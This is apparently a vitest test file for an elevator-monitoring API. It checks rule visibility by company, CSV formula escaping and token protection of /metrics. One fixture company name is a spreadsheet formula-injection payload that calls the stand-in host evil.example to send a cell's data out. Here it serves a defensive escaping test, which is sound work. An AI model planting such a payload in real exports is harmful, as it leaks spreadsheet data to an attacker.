// What the API shows to whom (issue 7, item 17): a crew member lists only the rules of their own
// company (and the district-wide ones); a ranking CSV cannot carry a spreadsheet formula; with
// METRICS_TOKEN set, /metrics needs it.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { App } from '../../api/app.ts'
import { openDb, type Db } from '../../core/db/client.ts'
import { migrate } from '../../core/db/migrate.ts'
import { silentLogger } from '../../core/log.ts'
import { provisionCommunity, provisionDevices } from '../../core/provision.ts'
import { upsertRule } from '../../core/repos/rules.ts'
import { insertUser, issueToken } from '../../core/repos/tokens.ts'
import { apiFor } from '../helpers/api.ts'
import { seed } from '../helpers/stack.ts'

const METRICS_TOKEN = 'metrics-token-for-the-test-0123456789'
let db: Db
let app: App
let open: App
let admin: Record<string, string>
let crew: Record<string, string>

const rule = (id: string, scope: Record<string, string>) =>
  upsertRule(db, {
    id,
    type: 'threshold',
    severity: 'minor',
    enabled: true,
    definition: { id, name: id, type: 'threshold', severity: 'minor', scope, params: { metric: 'speed_mps', op: '>', value: 5, clear: { value: 4 } } },
  })

beforeAll(async () => {
  db = await openDb({})
  const features = await migrate(db, { log: silentLogger })
  await seed(db)
  await provisionCommunity(db, { id: 'co-other', name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' }, { id: 'cm-other', name: 'Other' })
  await provisionDevices(db, [{ id: 'el-o', kind: 'elevator', communityId: 'cm-other' }])
  await rule('r-global', { kind: 'elevator' })
  await rule('r-own-device', { deviceId: 'el-1' })
  await rule('r-own-community', { kind: 'elevator', communityId: 'cm-test' })
  await rule('r-other-device', { deviceId: 'el-o' })
  await rule('r-other-community', { kind: 'elevator', communityId: 'cm-other' })
  const api = await apiFor(db, features, { metricsToken: METRICS_TOKEN })
  app = api.app
  admin = { authorization: `Bearer ${api.token}` }
  const crewId = await insertUser(db, { name: 'crew-test', role: 'crew', companyId: 'co-test' })
  crew = { authorization: `Bearer ${(await issueToken(db, crewId)).token}` }
  open = (await apiFor(db, features)).app
})

afterAll(async () => {
  await app.close()
  await open.close()
  await db.close()
})

describe('exposure', () => {
  it("lists to a crew member the district-wide rules and their own company's, not another's", async () => {
    const ids = (who: Record<string, string>) => app.inject({ url: '/api/v1/rules', headers: who }).then((r) => r.json<{ items: { id: string }[] }>().items.map((i) => i.id).filter((id) => id.startsWith('r-')))
    expect(await ids(crew)).toEqual(['r-global', 'r-own-community', 'r-own-device'])
    expect(await ids(admin)).toEqual(['r-global', 'r-other-community', 'r-other-device', 'r-own-community', 'r-own-device'])
    expect((await app.inject({ url: '/api/v1/rules/r-other-device', headers: crew })).statusCode).toBe(404)
    expect((await app.inject({ url: '/api/v1/rules/r-other-community', headers: crew })).statusCode).toBe(404)
    expect((await app.inject({ url: '/api/v1/rules/r-own-device', headers: crew })).statusCode).toBe(200)
  })

  it('writes formula-looking text in the ranking CSV as text', async () => {
    const csv = await app.inject({ url: '/api/v1/evaluation/ranking.csv', headers: admin })
    expect(csv.statusCode).toBe(200)
    const line = csv.body.split('\r\n').find((l) => l.includes('co-other')) ?? ''
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)
    // No cell of any line starts with a formula character.
    for (const l of csv.body.trim().split('\r\n')) expect(l.split(',').filter((cell) => /^"?[=+@\t\r]/.test(cell))).toEqual([])
  })

  it('guards /metrics with METRICS_TOKEN when it is set', async () => {
    expect((await open.inject({ url: '/metrics' })).statusCode).toBe(200)
    const none = await app.inject({ url: '/metrics' })
    expect(none.statusCode).toBe(401)
    expect(none.json()).toMatchObject({ code: 'unauthorized' })
    expect((await app.inject({ url: '/metrics', headers: { authorization: 'Bearer wrong' } })).statusCode).toBe(401)
    expect((await app.inject({ url: '/metrics', headers: admin })).statusCode).toBe(401)
    expect((await app.inject({ url: '/metrics', headers: { authorization: `Bearer ${METRICS_TOKEN}` } })).statusCode).toBe(200)
  })
})
